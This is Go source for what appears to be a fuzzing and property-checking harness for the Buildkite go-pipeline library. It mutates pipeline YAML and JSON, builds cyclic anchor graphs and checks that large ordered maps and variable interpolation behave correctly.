	"group:", "matrix:", "setup:", "adjustments:", "with:", "skip:", "cache:", "env:", "key:", "label:", "signature:", "trigger:", "type: group", "type: 5", "type: [a]", "steps: 5", "steps: {a: b}", " ", "\ufeff", "\x00", "\xff",
}

func c13Mutate(r *rand.Rand, corpus [][]byte) ([]byte, string) {
	b := append([]byte(nil), corpus[r.IntN(len(corpus))]...)
	nm := 1 + r.IntN(4)
	kinds := ""
	for k := 0; k < nm; k++ {
		if len(b) == 0 {
			b = []byte("a")
		}
		pos := r.IntN(len(b))
		switch x := r.IntN(9); x {
		case 0: // byte flip
			b[pos] ^= 1 << uint(r.IntN(8))
			kinds += "f"
		case 1: // truncate
			b = b[:pos]
			kinds += "t"
		case 2: // dictionary insertion
			w := c13Dict[r.IntN(len(c13Dict))]
			b = append(b[:pos:pos], append([]byte(w), b[pos:]...)...)
			kinds += "d"
		case 3: // splice from another document
			o := corpus[r.IntN(len(corpus))]
			a := r.IntN(len(o))
			e := a + r.IntN(len(o)-a)
			b = append(b[:pos:pos], append(append([]byte(nil), o[a:e]...), b[pos:]...)...)
			kinds += "s"
		case 4: // duplicate a line range
			lines := bytes.Split(b, []byte("\n"))
			i := r.IntN(len(lines))
			j := i + r.IntN(len(lines)-i)
			dup := bytes.Join(lines[i:j+1], []byte("\n"))
			b = append(b[:pos:pos], append(dup, b[pos:]...)...)
			kinds += "D"
		case 5: // indentation damage on one line
			lines := bytes.Split(b, []byte("\n"))
			i := r.IntN(len(lines))
			if r.IntN(2) == 0 {
				lines[i] = append([]byte("  "), lines[i]...)
			} else {
				lines[i] = bytes.TrimPrefix(lines[i], []byte("  "))
			}
			b = bytes.Join(lines, []byte("\n"))
			kinds += "i"
		case 6: // delete a span
			e := pos + r.IntN(min(len(b)-pos, 40)+1)
			b = append(b[:pos:pos], b[e:]...)
			kinds += "x"
		case 7: // replace a scalar-looking token with another type
			w := []string{"[1, 2]", "{a: b}", "5", "null", "true", "''", "2.5"}[r.IntN(7)]
			e := pos
			for e < len(b) && b[e] != '\n' && b[e] != ',' {
				e++
			}
			b = append(b[:pos:pos], append([]byte(w), b[e:]...)...)
			kinds += "r"
		default: // swap two lines
			lines := bytes.Split(b, []byte("\n"))
			i, j := r.IntN(len(lines)), r.IntN(len(lines))
			lines[i], lines[j] = lines[j], lines[i]
			b = bytes.Join(lines, []byte("\n"))
			kinds += "w"
		}
	}
	return b, kinds
}

// c13TypeError takes a well-formed document and swaps the kind of one node
// (scalar <-> list <-> mapping), or breaks `type` / a scalar step / `steps`.
func c13TypeError(r *rand.Rand) (string, string, error) {
	d, err := gen.Pipeline(r, gen.PipeOpts{Str: gen.StringOpts{Tricky: true}, Unknown: true, NoTime: true, MaxGroupDepth: 3}.NoSweep())
	if err != nil {
		return "", "", err
	}
	root := d.Plain.Clone()
	if root.Kind == doc.KSeq {
		root = doc.M(doc.P("steps", root))
	}
	// collect (parent, setter) positions below steps
	type slot struct {
		set  func(*doc.Node)
		cur  *doc.Node
		path string
	}
	var slots []slot
	var rec func(n *doc.Node, path string)
	rec = func(n *doc.Node, path string) {
		for i := range n.Seq {
			i := i
			slots = append(slots, slot{func(x *doc.Node) { n.Seq[i] = x }, n.Seq[i], fmt.Sprintf("%s[%d]", path, i)})
			rec(n.Seq[i], fmt.Sprintf("%s[%d]", path, i))
		}
		for i := range n.Map {
			i := i
			slots = append(slots, slot{func(x *doc.Node) { n.Map[i].Val = x }, n.Map[i].Val, path + "." + n.Map[i].Key})
			rec(n.Map[i].Val, path+"."+n.Map[i].Key)
		}
	}
	rec(root, "$")
	what := "none"
	if len(slots) > 0 {
		s := slots[r.IntN(len(slots))]
		var repl *doc.Node
		switch r.IntN(8) {
		case 0:
			repl = doc.L(doc.S("x"), doc.I(1))
		case 1:
			repl = doc.M(doc.P("a", doc.S("b")))
		case 2:
			repl = doc.I(int64(r.IntN(10)))
		case 3:
			repl = doc.Null()
		case 4:
			repl = doc.B(true)
		case 5:
			repl = doc.F(2.5)
		case 6:
			repl = doc.L()
			repl.Seq = []*doc.Node{}
		default:
			repl = doc.L(doc.L(doc.M(doc.P("deep", doc.Null()))))
		}
		s.set(repl)
		what = fmt.Sprintf("%s:%s->%s", s.path, s.cur.Kind, repl.Kind)
	}
	// sometimes also a non-string type on a step
	if r.IntN(6) == 0 {
		if sv, ok := root.Get("steps"); ok && sv.Kind == doc.KSeq && len(sv.Seq) > 0 {
			st := sv.Seq[r.IntN(len(sv.Seq))]
			if st.Kind == doc.KMap {
				st.Set("type", []*doc.Node{doc.I(5), doc.L(doc.S("command")), doc.Null(), doc.M(doc.P("a", doc.S("b"))), doc.B(true)}[r.IntN(5)])
				what += "+nonstring-type"
			}
		}
	}
	if r.IntN(2) == 0 {
		return string(doc.ToJSON(root)), what, nil
	}
	txt, err := doc.ToYAML(root, doc.YAMLOpts{Rng: r, Flow: 0.2, Compact: true})
	return txt, what, err
}

func checkC13(c *run.Ctx) {
	jr := journal{dir: os.Getenv("GPV_SCRATCH")}
	corpus := loadCorpus(c)
	c.Count("corpus_documents", len(corpus))
	// witnesses
	for _, f := range c.FindingsFor() {
		var w struct {
			Document string `json:"document"`
			Leg      string `json:"leg"`
		}
		if len(f.Witness) == 0 || json.Unmarshal(f.Witness, &w) != nil || w.Document == "" {
			continue
		}
		p, perr := parseText(w.Document)
		fails, what := false, "usable result marshals"
		switch {
		case perr != nil && !warning.Is(perr):
			what = "hard error"
		case f.ID == "F8":
			fails = perr == nil
			what = "unknown step fallback with extra top-level key: warning=" + fmt.Sprint(perr)
		case f.ID == "F3":
			_, isCmd := p.Steps[0].(*pipeline.CommandStep)
			fails = !isCmd
			what = fmt.Sprintf("step parsed as %T", p.Steps[0])
		case w.Leg == "yaml":
			_, err := safeYAMLMarshal(p)
			fails = err != nil
			what = fmt.Sprintf("yaml.Marshal error: %v", err)
		default:
			_, err := safeJSONMarshal(p)
			fails = err != nil
			what = fmt.Sprintf("json.Marshal error: %v", err)
		}
		c.Witness(f, fails, fmt.Sprintf("%q: %s", w.Document, what))
	}
	// unmutated corpus first
	for i, b := range corpus {
		id := fmt.Sprintf("corpus/%d", i)
		jr.write("corpus", id, string(b))
		out, ok := c13Check(c, id, b, "corpus")
		jr.done(id)
		c.Eval(1)
		if ok {
			c.Count("outcome_"+out.class, 1)
			c.Feature("corpus", i)
		}
	}
	nmut := c.N(60000, 3000000)
	c.Phase("mutation", func() {
		c.Parallel("mut", nmut, func(i int, r *rand.Rand) {
			b, kinds := c13Mutate(r, corpus)
			id := run.CaseID("mut", i)
			jr.write(fmt.Sprint(i%64), id, string(b))
			out, ok := c13Check(c, id, b, "corpus-mutation:"+kinds)
			jr.done(id)
			c.Eval(1)
			if !ok {
				return
			}
			c.Count("outcome_"+out.class, 1)
			if i%16 == 0 {
				c.Feature("mut", out.class, out.unknowns > 0, kinds)
			}
			if c.WantSample() && out.class == "warning" && len(b) < 600 {
				c.Sample(map[string]any{"generator": "corpus-mutation:" + kinds, "input": string(b), "outcome": out.class, "unknown_steps": out.unknowns})
			}
		})
	})
	nte := c.N(15000, 600000)
	c.Phase("type-errors", func() {
		c.Parallel("te", nte, func(i int, r *rand.Rand) {
			txt, what, err := c13TypeError(r)
			if err != nil {
				return
			}
			id := run.CaseID("te", i)
			jr.write(fmt.Sprint(i%64), id, txt)
			out, ok := c13Check(c, id, []byte(txt), "type-error:"+what)
			jr.done(id)
			c.Eval(1)
			if !ok {
				return
			}
			c.Count("outcome_"+out.class, 1)
			c.Count("type_error_outcome_"+out.class, 1)
			if i%8 == 0 {
				c.Feature("te", out.class, out.unknowns > 0, strings.SplitN(what, ":", 2)[0] != "none")
			}
		})
	})
	// (3b) long step sequences with many fallbacks (every one must be reported)
	c.Parallel("many", c.N(300, 5000), func(i int, r *rand.Rand) {
		n := []int{9, 10, 11, 12, 13, 20, 40, 100}[r.IntN(8)]
		if i%23 == 5 {
			// hundreds of fallbacks in one list: each one is kept and each one is reported, the 101st like the first
			n = []int{150, 260, 520, 1200}[r.IntN(4)]
			c.Count("documents_with_more_than_100_entries", 1)
		}
		l := doc.L()
		for k := 0; k < n; k++ {
			switch r.IntN(5) {
			case 0:
				l.Seq = append(l.Seq, doc.M(doc.P("type", doc.S(gen.Ident(r)+"-x"))))
			case 1:
				l.Seq = append(l.Seq, doc.M(doc.P("nokind_"+gen.Ident(r), doc.I(int64(k)))))
			case 2:
				// an unrecognised scalar step, now and then padded with white space (kept verbatim, padding included)
				pad := []string{"", "", "", " ", "\n", "\t", "\u2028", "\r\n"}
				l.Seq = append(l.Seq, doc.S(pad[r.IntN(len(pad))]+gen.Ident(r)+"-scalar"+pad[r.IntN(len(pad))]))
			case 3:
				l.Seq = append(l.Seq, doc.M(doc.P("command", doc.S("ok")), doc.P("matrix", doc.I(5)))) // typed field of the wrong type -> fallback
			default:
				l.Seq = append(l.Seq, doc.M(doc.P("command", doc.S("fine"))))
			}
		}
		var root *doc.Node = l
		if r.IntN(2) == 0 {
			root = doc.M(doc.P("steps", l), doc.P("agents", doc.M(doc.P("queue", doc.S("q")))))
		}
		txt := string(doc.ToJSON(root))
		id := run.CaseID("many", i)
		jr.write("", id, txt)
		out, ok := c13Check(c, id, []byte(txt), "many-fallbacks")
		jr.done(id)
		c.Eval(1)
		if ok {
			c.Count("outcome_"+out.class, 1)
			c.Max("max_fallbacks_in_one_document", int64(out.unknowns))
		}
	})
	// (3c) scale: documents of tens of thousands of entries, beyond 1 MiB of text (about 10 MiB at the top of the
	// thorough tier), as block YAML and as JSON, with a fallback every few hundred entries: a usable result holds one
	// step per entry however long the input is
	c.Phase("scale", func() {
		sizes := []int{20000, 45000, 150000}[:c.N(2, 3)]
		c.Parallel("scale", len(sizes)*2, func(i int, r *rand.Rand) {
			d := bigStepsDoc(r, sizes[i/2], 24, 307)
			txt := string(doc.ToJSON(d))
			if i%2 == 0 {
				if t, err := doc.ToYAML(d, doc.YAMLOpts{}); err == nil {
					txt = t
				}
			}
			id := run.CaseID("scale", i)
			jr.write("", id, txt)
			out, ok := c13CheckCap(c, id, []byte(txt), "scale", 64<<20, 64<<20)
			jr.done(id)
			c.Eval(1)
			if ok {
				c.Count("outcome_"+out.class, 1)
				c.Count("scale_documents", 1)
				c.Max("largest_document_bytes", int64(len(txt)))
				c.Max("max_fallbacks_in_one_document", int64(out.unknowns))
			}
		})
	})
	// (4) anchor/alias/merge graphs with cycles (the C07 generator) embedded as a step and as a top-level extra
	ng := c.N(6000, 300000)
	c.Phase("graphs", func() {
		c.Parallel("gr", ng, func(i int, r *rand.Rand) {
			g := gen.AnchorGraph(r, gen.GraphOpts{Cycles: i%4 != 0, Big: i%7 == 0, MaxAnchors: 12})
			cmd := doc.M(doc.P("command", doc.S("x")), doc.Pair{Merge: true, Val: g.Root})
			root := doc.M(doc.P("graph", g.Root), doc.P("steps", doc.L(cmd, g.Root, doc.S("wait"))))
			txt, err := doc.ToYAML(root, doc.YAMLOpts{Rng: r, Flow: []float64{0, 0.3}[r.IntN(2)], Anchors: true})
			if err != nil {
				return
			}
			id := run.CaseID("gr", i)
			jr.write("", id, txt)
			out, ok := c13Check(c, id, []byte(txt), "anchor-graph")
			jr.done(id)
			c.Eval(1)
			if !ok {
				return
			}
			c.Count("outcome_"+out.class, 1)
			c.Count("graph_outcome_"+out.class, 1)
			if i%8 == 0 {
				c.Feature("gr", out.class, g.ValueBack > 0, g.MergeBack > 0)
			}
		})
	})
	// (5) a usable result marshals whatever the process marshalled before: each corpus document is checked right
	// after a document whose marshalling fails part-way (non-finite float deep inside nested mappings, K3) or whose
	// parse fails part-way (value cycle below a mapping), on the same goroutine
	c.Phase("after-failure", func() {
		corpus := loadCorpus(c)
		poison := []string{
			"agents: {limits: {weight: .inf}}\nsteps: [{command: a}]\n",
			"env: {A: b}\nx: {y: {z: [1, {w: .nan}]}}\nsteps:\n  - command: a\n    retry: {automatic: {limit: -.inf}}\n",
			"steps:\n  - llama: {drama: {karma: .inf}}\n  - wait\n",
			"steps:\n  - command: a\n    plugins:\n      - docker#v1: {deep: {deeper: {x: .nan}}}\n",
			"name: build\nimage: &i [*i]\nsteps: []\n",
			"steps:\n  - command: a\n    env: &e {A: *e}\n",
			"base: &b {name: x, image: &j {k: *j}}\nsteps:\n  - <<: *b\n    command: a\n",
		}
		c.Parallel("af", c.N(400, 6000), func(i int, r *rand.Rand) {
			id := run.CaseID("af", i)
			bad := poison[r.IntN(len(poison))]
			for k, m := 0, 1+r.IntN(3); k < m; k++ {
				if p, err := pipeline.Parse(strings.NewReader(bad)); p != nil && (err == nil || warning.Is(err)) {
					_, _ = safeJSONMarshal(p)
					_, _ = safeYAMLMarshal(p)
				}
			}
			data := corpus[r.IntN(len(corpus))]
			jr.write("", id, string(data))
			out, ok := c13Check(c, id, data, "corpus-after-failed-marshal-or-parse")
			jr.done(id)
			c.Eval(1)
			if ok {
				c.Count("outcome_"+out.class, 1)
				c.Count("documents_checked_right_after_a_failure", 1)
			}
		})
	})
	jr.clear()
	c.Finish("exploration",
		"(5) corpus documents checked right after a document whose marshalling or parsing fails part-way, on the same goroutine; (1) the unmutated corpus (documents extracted from the repository's tests plus hand-written real-world pipelines with anchors/merges, JSON, legacy type keys, and hostile alias/merge cycle shapes); (2) seeded mutations of it (bit flips, truncation, dictionary insertion of YAML indicators and pipeline keys, splices between documents, duplicated line ranges, indentation damage, deletions, token replacement by another type, line swaps; 1-4 per input); (3) grammar documents with one node's kind swapped at a random position (scalar/list/mapping/null/bool/float/empty/deep) and non-string `type` values; (4) anchor/alias/merge graphs from the C07 generator, three quarters of them with value or merge cycles (incl. self-referential merge sequences), embedded as a step, merged into a command step and as a top-level extra. Inputs over 64 KiB or with alias expansion over 2*10^5 nodes are dropped (counted). Monitors: no panic; wall clock per input; for usable results Steps non-nil, no nil step, step count = the input's step sequence obtained independently through yaml.Node + the harness merge resolver (recursively in groups), unknown steps equal the input entry verbatim, at least one reported cause per fallback, json.Marshal and yaml.Marshal succeed. distinct_nontrivial counts distinct (generator, outcome class, has unknowns, mutation kinds) in a sample",
		nil,
		[]string{"K3 (non-finite floats -> json.Marshal error) and K5 (whitespace-leading multi-line string -> yaml.Marshal error) are recognised by a narrow predicate (failure mode + presence of the trigger in the data) and counted, other marshal failures are violations", "a group entry may come back as a group or as one verbatim unknown step", "a process-fatal event (stack overflow) is attributed by the driver through the per-worker journal"})
	_ = errors.Is
}
