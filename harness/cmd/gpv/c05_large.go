package main

import (
	"fmt"
	"math/rand/v2"

	"github.com/buildkite/go-pipeline/ordered"

	"verif/refmodel"
	"verif/run"
)

// c05Large: maps of a thousand to nine thousand keys, emptied in bulk in
// several patterns (the last half, the first half, every other key, a random
// majority, all but the first) so that the storage is compacted while it is
// large, then written to again. Every observer is compared with the model
// after each bulk step and at intervals inside it.
func c05Large[V any](c *run.Ctx, k omKind[V], phase string) {
	sizes := []int{1022, 1024, 1030, 1500, 2048, 4096, 9000}[:c.N(5, 7)]
	const patterns = 5
	c.Parallel(phase, len(sizes)*patterns*c.N(1, 3), func(i int, r *rand.Rand) {
		id := run.CaseID(phase, i)
		n, pat := sizes[i%len(sizes)], (i/len(sizes))%patterns
		alphabet := make([]string, n)
		for j := range alphabet {
			alphabet[j] = fmt.Sprintf("key-%05d", j)
		}
		m := ordered.NewMap[string, V](0)
		p := &refmodel.PairList[V]{}
		serial := 0
		nextVal := func() V { serial++; return k.mkVal(r, serial) }
		stage := "fill"
		do := func(op omOp, full bool) bool {
			msg := applyOp(m, p, op, alphabet, nextVal)
			if msg == "" && full {
				msg = observe(c, k, m, p, alphabet, true, r)
			}
			c.Count("large_map_ops", 1)
			if msg != "" {
				c.Violation(id, map[string]any{"what": fmt.Sprintf("map of %d keys, %s (pattern %d): %s", n, stage, pat, msg), "op": op.String(), "live_keys": p.Len()})
				return false
			}
			return true
		}
		for j, key := range alphabet {
			if !do(omOp{Kind: "set", A: key}, j == n-1) {
				return
			}
		}
		var order []int
		switch pat {
		case 0: // the last half
			for j := n / 2; j < n; j++ {
				order = append(order, j)
			}
		case 1: // the first half and one more
			for j := 0; j <= n/2; j++ {
				order = append(order, j)
			}
		case 2: // every other key, then a few of the rest
			for j := 1; j < n; j += 2 {
				order = append(order, j)
			}
			for j := 0; j < 8; j += 2 {
				order = append(order, j)
			}
		case 3: // a random majority
			order = r.Perm(n)[:n/2+5]
		default: // all but the first, from the back
			for j := n - 1; j >= 1; j-- {
				order = append(order, j)
			}
		}
		stage = "bulk delete"
		slotsBefore, _, _, _ := m.VerifState()
		for x, j := range order {
			if !do(omOp{Kind: "delete", A: alphabet[j]}, x%251 == 0 || x == len(order)-1) {
				return
			}
			if s, _, _, _ := m.VerifState(); s < slotsBefore {
				c.Count("large_compactions_observed", 1)
				c.Max("largest_storage_compacted_slots", int64(slotsBefore))
				if msg := observe(c, k, m, p, alphabet, true, r); msg != "" {
					c.Violation(id, map[string]any{"what": fmt.Sprintf("map of %d keys, right after a compaction of %d slots (pattern %d): %s", n, slotsBefore, pat, msg), "live_keys": p.Len()})
					return
				}
				slotsBefore = s
			} else {
				slotsBefore = s
			}
		}
		stage = "writes after the bulk delete"
		for t := 0; t < 60; t++ {
			a, b := alphabet[r.IntN(n)], alphabet[r.IntN(n)]
			op := omOp{Kind: "set", A: a}
			switch r.IntN(3) {
			case 1:
				op = omOp{Kind: "replace", A: a, B: b}
			case 2:
				op = omOp{Kind: "delete", A: a}
			}
			if !do(op, t%10 == 9) {
				return
			}
		}
		c.Eval(1)
		c.Feature(phase, n, pat)
	})
}
