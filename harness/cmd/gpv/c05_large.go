package main

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"

	"github.com/buildkite/go-pipeline/ordered"

	"verif/refmodel"
	"verif/run"
)

// c05Large: maps of a thousand to nine thousand keys, emptied in bulk in
// several patterns (the last half, the first half, every other key, a random
// majority, all but the first) so that the storage is compacted while it is
// large, then written to again. Every observer is compared with the model
// after each bulk step and at intervals inside it.
func c05Large[V any](c *run.Ctx, k omKind[V], phase string) {
	sizes := []int{1022, 1024, 1030, 1500, 2048, 4096, 9000}[:c.N(5, 7)]
	const patterns = 5
	c.Parallel(phase, len(sizes)*patterns*c.N(1, 3), func(i int, r *rand.Rand) {
		id := run.CaseID(phase, i)
		n, pat := sizes[i%len(sizes)], (i/len(sizes))%patterns
		alphabet := make([]string, n)
		for j := range alphabet {
			alphabet[j] = fmt.Sprintf("key-%05d", j)
		}
		m := ordered.NewMap[string, V](0)
		p := &refmodel.PairList[V]{}
		serial := 0
		nextVal := func() V { serial++; return k.mkVal(r, serial) }
		stage := "fill"
		do := func(op omOp, full bool) bool {
			msg := applyOp(m, p, op, alphabet, nextVal)
			if msg == "" && full {
				msg = observe(c, k, m, p, alphabet, true, r)
			}
			c.Count("large_map_ops", 1)
			if msg != "" {
				c.Violation(id, map[string]any{"what": fmt.Sprintf("map of %d keys, %s (pattern %d): %s", n, stage, pat, msg), "op": op.String(), "live_keys": p.Len()})
				return false
			}
			return true
		}
		for j, key := range alphabet {
			if !do(omOp{Kind: "set", A: key}, j == n-1) {
				return
			}
		}
		var order []int
		switch pat {
		case 0: // the last half
			for j := n / 2; j < n; j++ {
				order = append(order, j)
			}
		case 1: // the first half and one more
			for j := 0; j <= n/2; j++ {
				order = append(order, j)
			}
		case 2: // every other key, then a few of the rest
			for j := 1; j < n; j += 2 {
				order = append(order, j)
			}
			for j := 0; j < 8; j += 2 {
				order = append(order, j)
			}
		case 3: // a random majority
			order = r.Perm(n)[:n/2+5]
		default: // all but the first, from the back
			for j := n - 1; j >= 1; j-- {
				order = append(order, j)
			}
		}
		stage = "bulk delete"
		slotsBefore, _, _, _ := m.VerifState()
		for x, j := range order {
			if !do(omOp{Kind: "delete", A: alphabet[j]}, x%251 == 0 || x == len(order)-1) {
				return
			}
			if s, _, _, _ := m.VerifState(); s < slotsBefore {
				c.Count("large_compactions_observed", 1)
				c.Max("largest_storage_compacted_slots", int64(slotsBefore))
				if msg := observe(c, k, m, p, alphabet, true, r); msg != "" {
					c.Violation(id, map[string]any{"what": fmt.Sprintf("map of %d keys, right after a compaction of %d slots (pattern %d): %s", n, slotsBefore, pat, msg), "live_keys": p.Len()})
					return
				}
				slotsBefore = s
			} else {
				slotsBefore = s
			}
		}
		stage = "writes after the bulk delete"
		for t := 0; t < 60; t++ {
			a, b := alphabet[r.IntN(n)], alphabet[r.IntN(n)]
			op := omOp{Kind: "set", A: a}
			switch r.IntN(3) {
			case 1:
				op = omOp{Kind: "replace", A: a, B: b}
			case 2:
				op = omOp{Kind: "delete", A: a}
			}
			if !do(op, t%10 == 9) {
				return
			}
		}
		c.Eval(1)
		c.Feature(phase, n, pat)
	})
}

// c05NestedEqual: Equal on maps whose values are containers (lists, plain
// maps, lists of lists) that hold ordered maps. The inner maps of the two
// sides have the same keys, values and order but different histories (built
// directly; built longer and trimmed by Delete; a key renamed onto another by
// Replace; emptied and refilled), so their storage differs while their
// content does not - and vice versa for the unequal twins (one value, one key
// or the order differs deep inside).
func c05NestedEqual(c *run.Ctx) {
	c.Parallel("nested-equal", c.N(3000, 60000), func(i int, r *rand.Rand) {
		id := run.CaseID("nested-equal", i)
		n := 1 + r.IntN(5)
		keys := make([]string, n)
		vals := make([]any, n)
		for j := range keys {
			keys[j] = fmt.Sprintf("k%d", j)
			vals[j] = []any{j, "v", true, nil}[r.IntN(4)]
		}
		history := func(kind int, ks []string, vs []any) *ordered.MapSA {
			m := ordered.NewMap[string, any](0)
			switch kind {
			case 1: // longer, then trimmed: tombstones at the end and in the middle
				for j, k := range ks {
					m.Set(k, vs[j])
					if j == 0 {
						m.Set("gone-early", 0)
					}
				}
				m.Set("gone-late", 1)
				m.Delete("gone-late")
				if len(ks) > 2 {
					m.Delete("gone-early")
				} else {
					// few keys: deleting both would compact; rename one away and back instead
					m.Delete("gone-early")
				}
			case 2: // a key renamed onto its final name
				for j, k := range ks {
					if j == len(ks)-1 {
						m.Set("old-name", "old")
						m.Replace("old-name", k, vs[j])
					} else {
						m.Set(k, vs[j])
					}
				}
			case 3: // filled, emptied, refilled
				for j, k := range ks {
					m.Set(k, vs[j])
				}
				for _, k := range ks {
					m.Delete(k)
				}
				for j, k := range ks {
					m.Set(k, vs[j])
				}
			default:
				for j, k := range ks {
					m.Set(k, vs[j])
				}
			}
			return m
		}
		wrap := func(kind int, inner *ordered.MapSA) any {
			switch kind {
			case 0:
				return []any{inner}
			case 1:
				return map[string]any{"holder": inner}
			case 2:
				return []any{"x", []any{1, inner}, nil}
			case 3:
				return map[string]any{"a": []any{map[string]any{"deep": inner}}}
			}
			return inner // directly nested
		}
		wk := r.IntN(5)
		ha, hb := r.IntN(4), r.IntN(4)
		a := ordered.MapFromItems(ordered.TupleSA{Key: "first", Value: 1}, ordered.TupleSA{Key: "nested", Value: wrap(wk, history(ha, keys, vals))})
		b := ordered.MapFromItems(ordered.TupleSA{Key: "first", Value: 1}, ordered.TupleSA{Key: "nested", Value: wrap(wk, history(hb, keys, vals))})
		c.Eval(1)
		c.Feature("nested-equal", wk, ha, hb)
		var eq bool
		if pi := run.Guard(func() { eq = ordered.Equal(a, b) }); pi != nil {
			c.Violation(id, map[string]any{"what": "Equal panicked on maps holding ordered maps inside containers: " + pi.Value, "stack": pi.Stack})
			return
		}
		if !eq {
			ja, _ := json.Marshal(a)
			jb, _ := json.Marshal(b)
			c.Violation(id, map[string]any{"what": fmt.Sprintf("Equal is false for two maps whose keys, values and order all match; they differ only in how the ordered map nested inside a container (wrapping %d) was built (histories %d and %d)", wk, ha, hb), "a": string(ja), "b": string(jb)})
			return
		}
		// an unequal twin: one inner value, one inner key, or the inner order differs
		ks2, vs2 := append([]string(nil), keys...), append([]any(nil), vals...)
		switch x := r.IntN(3); {
		case x == 0:
			vs2[r.IntN(n)] = "changed"
		case x == 1 || n < 2:
			ks2[r.IntN(n)] = "other-key"
		default:
			ks2[0], ks2[n-1] = ks2[n-1], ks2[0]
			vs2[0], vs2[n-1] = vs2[n-1], vs2[0]
		}
		d := ordered.MapFromItems(ordered.TupleSA{Key: "first", Value: 1}, ordered.TupleSA{Key: "nested", Value: wrap(wk, history(hb, ks2, vs2))})
		if pi := run.Guard(func() { eq = ordered.Equal(a, d) }); pi != nil {
			c.Violation(id, map[string]any{"what": "Equal panicked: " + pi.Value, "stack": pi.Stack})
			return
		}
		if eq {
			ja, _ := json.Marshal(a)
			jd, _ := json.Marshal(d)
			c.Violation(id, map[string]any{"what": "Equal is true although a key, a value or the order differs in the ordered map nested inside a container", "a": string(ja), "b": string(jd)})
			return
		}
		c.Count("nested_equal_pairs", 2)
	})
}
