package main

import (
	"encoding/json"
	"fmt"
	pipeline "github.com/buildkite/go-pipeline"
	"github.com/buildkite/go-pipeline/ordered"
	"math/rand/v2"
	"strings"

	"github.com/buildkite/go-pipeline/warning"
	"github.com/buildkite/interpolate"

	"verif/doc"
	"verif/gen"
	"verif/refmodel"
	"verif/run"
)

func init() { register("C04", checkC04) }

var c04Refs = []string{`\$`, `x\$`, `\$`, "$", "a$", "$$", `\\$X`, `\`, `\\`, "$BLK1", "${BLK2}", "$BLK1-", "$X", "${X}", "$$X", `\$X`, "$${Y}", "${Y:-d}", "${UNSET:-dflt}", "${UNSET-$Y}", "${W:0:1}", "$Y", "$Z", "${Z:-zd}", "$UNSET", "$X$Y", "pre${Y}post", "$$$$"}

func c04Env() map[string]string {
	return map[string]string{"X": "$Y", "Y": "yval", "Z": "", "W": "w w", "DOLLAR": "$$X"}
}

type c04Walk struct {
	f                func(string) (string, error)
	byField          map[string]int
	strings          int
	changed          int
	escaped          int
	mapsOver8Renamed int
}

// expect maps f over every string (keys and values) of a model tree produced
// by modelToDoc, leaving struct field names, dynamic type markers and
// signatures alone. envOverride replaces Pipeline.Env.
func (w *c04Walk) expect(n *doc.Node, field string, envOverride *doc.Node) (*doc.Node, error) {
	switch n.Kind {
	case doc.KStr:
		out, err := w.f(n.Str)
		if err != nil {
			return nil, err
		}
		w.strings++
		w.byField[field]++
		if out != n.Str {
			w.changed++
		}
		if strings.Contains(n.Str, "$$") || strings.Contains(n.Str, `\$`) {
			w.escaped++
		}
		return doc.S(out), nil
	case doc.KSeq:
		o := &doc.Node{Kind: doc.KSeq, Seq: []*doc.Node{}}
		for _, e := range n.Seq {
			x, err := w.expect(e, field, nil)
			if err != nil {
				return nil, err
			}
			o.Seq = append(o.Seq, x)
		}
		return o, nil
	case doc.KMap:
		o := &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}, OrderedKeys: n.OrderedKeys}
		if len(n.Map) > 0 && n.Map[0].Key == TypeKey {
			typ := n.Map[0].Val.Str
			for _, p := range n.Map {
				switch {
				case p.Key == TypeKey, p.Key == "Signature":
					o.Map = append(o.Map, doc.P(p.Key, p.Val.Clone()))
				case typ == "Pipeline" && p.Key == "Env" && envOverride != nil:
					o.Map = append(o.Map, doc.P(p.Key, envOverride))
				default:
					x, err := w.expect(p.Val, typ+"."+p.Key, nil)
					if err != nil {
						return nil, err
					}
					o.Map = append(o.Map, doc.P(p.Key, x))
				}
			}
			return o, nil
		}
		renamed := false
		for _, p := range n.Map {
			k, err := w.f(p.Key)
			if err != nil {
				return nil, err
			}
			w.strings++
			w.byField[field+"(key)"]++
			if k != p.Key {
				w.changed++
				renamed = true
			}
			x, err := w.expect(p.Val, field, nil)
			if err != nil {
				return nil, err
			}
			o.Map = append(o.Map, doc.P(k, x))
		}
		if renamed && len(n.Map) > 8 && !n.OrderedKeys {
			w.mapsOver8Renamed++
		}
		if !n.OrderedKeys {
			// Go maps: converter order is by key; re-sort after renaming
			o = o.SortedCopyShallow()
		}
		return o, nil
	}
	return n.Clone(), nil
}

// c04Run checks one document text against the oracle. It returns "" if the
// property holds.
func c04Run(text string, envMap map[string]string, reps int, w *c04Walk) (what string, extra map[string]any, errPath bool) {
	twin, perr := parseText(text)
	if perr != nil && !warning.Is(perr) {
		return "document rejected: " + perr.Error(), nil, false
	}
	orig := modelToDocRaw(twin)
	// expected env block (sequential fold) and final environment
	// envMap == nil: the call is made without an environment (Interpolate(nil, ...)), which the
	// documentation defines as an empty one, private to the call
	nilEnv := envMap == nil
	if nilEnv {
		envMap = map[string]string{}
	}
	menv := refmodel.NewEnv(false, envMap)
	block := &refmodel.PairList[string]{}
	if twin.Env != nil {
		_ = twin.Env.Range(func(k, v string) error { block.Set(k, v); return nil })
	}
	var want *doc.Node
	werr := refmodel.EnvFold(block, menv, false)
	if werr == nil {
		envDoc := doc.Null()
		if block.Len() > 0 {
			envDoc = &doc.Node{Kind: doc.KMap, Map: []doc.Pair{}, OrderedKeys: true}
			for _, it := range block.Items {
				envDoc.Map = append(envDoc.Map, doc.P(it.Key, doc.S(it.Val)))
			}
		}
		w.f = func(s string) (string, error) { return interpolate.Interpolate(menv, s) }
		want, werr = w.expect(orig, "", envDoc)
	}
	var firstJSON string
	for rep := 0; rep < reps; rep++ {
		p, _ := parseText(text)
		if rep == 1 {
			// marshalled before it is interpolated: observers change nothing
			_, _ = safeJSONMarshal(p)
			_, _ = safeYAMLMarshal(p)
		}
		renv := refmodel.NewEnv(false, envMap)
		var rerr error
		if nilEnv {
			rerr = p.Interpolate(nil, false)
		} else {
			rerr = p.Interpolate(renv, false)
		}
		if werr != nil {
			if rerr == nil {
				return "an expansion fails (" + werr.Error() + ") but Interpolate reported no error", nil, true
			}
			return "", nil, true
		}
		if rerr != nil {
			return "Interpolate failed: " + rerr.Error(), nil, false
		}
		got := modelToDocRaw(p)
		if diff := doc.Equal(want, got, doc.EqOpts{HonourOrderedKeys: true}); diff != "" {
			return fmt.Sprintf("run %d: pipeline after interpolation differs from single-pass expansion of every string: %s", rep, diff), map[string]any{"run": rep}, false
		}
